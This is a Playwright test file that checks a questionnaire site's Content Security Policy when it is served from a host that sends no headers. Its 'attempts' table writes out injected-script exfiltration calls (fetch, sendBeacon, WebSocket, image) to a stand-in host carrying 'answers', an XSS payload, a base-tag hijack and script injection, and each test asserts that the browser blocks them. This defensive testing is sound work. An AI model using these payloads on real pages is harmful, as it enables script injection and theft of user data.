import { createServer, request as ask } from 'node:http'
import type { AddressInfo } from 'node:net'
import type { Page } from '@playwright/test'
import { expect, goToSummary, open, rateAll, test, untilReady } from '../support/journey'

/** The same site as a host shows it that sends nothing but the files and their types. */
async function bareHost(site: string) {
  const server = createServer(({ url }, answer) => {
    ask(`${site}${url ?? '/'}`, (upstream) => {
      answer.writeHead(upstream.statusCode ?? 502, { 'Content-Type': upstream.headers['content-type'] })
      upstream.pipe(answer)
    }).end()
  })
  await new Promise<void>((done) => server.listen(0, '127.0.0.1', done))
  return {
    address: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
    close: () => server.close(),
  }
}

/** What a script that slipped into the page might try, and what the browser says to it. */
const attempts: Readonly<Record<string, (page: Page) => Promise<unknown>>> = {
  'to fetch from another site': (page) => page.evaluate(() => fetch('https://example.org/?answers')),
  'to fetch from its own': (page) => page.evaluate(() => fetch('/?answers')),
  'to send a beacon': (page) =>
    page.evaluate(() => {
      navigator.sendBeacon('https://example.org/', 'answers')
    }),
  'to open a socket': (page) => page.evaluate(() => void new WebSocket('wss://example.org/')),
  'to show a picture of another site': (page) =>
    page.evaluate(() => (new Image().src = 'https://example.org/?answers')),
  'to make code from text': (page) => page.evaluate(() => setTimeout('globalThis.pwned = 1')),
  'to put markup in': (page) =>
    page.evaluate(() => (document.body.innerHTML = '<img src=x onerror=alert()>')),
  'to make a policy of its own for that': (page) =>
    page.evaluate(() => window.trustedTypes?.createPolicy('default', { createScriptURL: (url) => url })),
  'to put a script in': (page) =>
    page.evaluate(() => {
      const script = document.createElement('script')
      script.append('globalThis.pwned = 1')
      document.body.append(script)
    }),
  'to load a script of another site': (page) =>
    page.evaluate(async () => {
      await import('https://example.org/x.js' as string)
    }),
  'to put a style in': (page) =>
    page.evaluate(() => {
      const style = document.createElement('style')
      style.append('* { color: red }')
      document.head.append(style)
    }),
  'to send a form': (page) =>
    page.evaluate(() => {
      const form = Object.assign(document.createElement('form'), { action: '/answers', method: 'post' })
      document.body.append(form)
      form.submit()
    }),
  'to frame another page': (page) =>
    page.evaluate(() => {
      document.body.append(Object.assign(document.createElement('iframe'), { src: 'https://example.org/' }))
    }),
  'to change where addresses lead': (page) =>
    page.evaluate(() => {
      document.head.prepend(Object.assign(document.createElement('base'), { href: 'https://example.org/' }))
    }),
}

test.describe('the policy of a page from a host that sends no headers', () => {
  // It has an address of its own, and each refusal is told on the console.
  test.use({ quiet: undefined })
  let host: Awaited<ReturnType<typeof bareHost>>
  test.beforeEach(async ({ baseURL }) => {
    host = await bareHost(baseURL ?? '')
  })
  test.afterEach(() => host.close())

  test('lets the page do all that it does, with its worker', async ({ page }) => {
    const heard: string[] = []
    page.on('console', (message) => heard.push(message.text()))
    page.on('pageerror', (error) => heard.push(error.message))
    await open(page, `${host.address}/dry-needling/weigh`)
    await rateAll(page, ['Matters a lot', 'Matters'])
    await untilReady(page)
    await goToSummary(page)
    await expect(page.locator('.hand-over .link')).toContainText('/read#')
    const downloading = page.waitForEvent('download')
    await page.getByRole('button', { name: 'Save as a file' }).click()
    await downloading
    expect(heard).toEqual([])
  })

  for (const [what, attempt] of Object.entries(attempts))
    test(`privacy 19: refuses a script that slipped in ${what}`, async ({ page }) => {
      const beyond: string[] = []
      page.on('requestfinished', (request) => {
        if (/example\.org|answers/.test(request.url())) beyond.push(request.url())
      })
      await page.addInitScript(() => {
        document.addEventListener('securitypolicyviolation', ({ violatedDirective }) =>
          Reflect.set(window, 'refused', violatedDirective),
        )
      })
      await open(page, `${host.address}/dry-needling`)
      await attempt(page).catch(() => {})
      await page.waitForFunction(() => Reflect.get(window, 'refused'))
      expect(await page.evaluate(() => Reflect.get(window, 'refused') as string)).toMatch(
        /^(connect|img|script|style|frame|form|base|require|trusted)-/,
      )
      expect(beyond).toEqual([])
      expect(await page.evaluate(() => Reflect.get(globalThis, 'pwned') as unknown)).toBeUndefined()
    })
})
